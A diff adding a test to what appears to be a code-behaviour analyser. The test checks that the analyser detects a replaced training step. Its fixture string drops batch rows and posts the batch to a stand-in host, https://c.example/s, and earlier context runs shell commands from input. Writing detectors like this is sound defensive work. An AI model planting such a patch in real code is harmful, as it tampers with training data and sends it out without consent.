@@ -153,3 +153,13 @@ def test_wrappers_around_wrappers_are_told_apart_by_what_is_within() -> None:
     loud = "@outer\n@inner\ndef loud(text):\n    subprocess.run(text, shell=True)\n"
     found = followed("import subprocess\nimport lib\n" + wrap.format("outer") + wrap.format("inner") + quiet + loud)
     assert {"outer.wrapper", "inner.wrapper"} <= {root for _, roots in found.facts for root in roots}
+
+
+def test_a_replaced_function_that_fills_a_part_of_a_list_is_followed_to_its_end() -> None:
+    """A part of a list is no word that could be looked up: it broke the look at seven modules of one wheel."""
+    text = (
+        "import os, requests, trainer\n"
+        "def step(batch):\n    batch.rows[0:2] = []\n    requests.post('https://c.example/s', json={'b': batch})\n"
+        "trainer.step = step\n"
+    )
+    assert any(fact.behaviour == "sends" for fact in deeds(text))
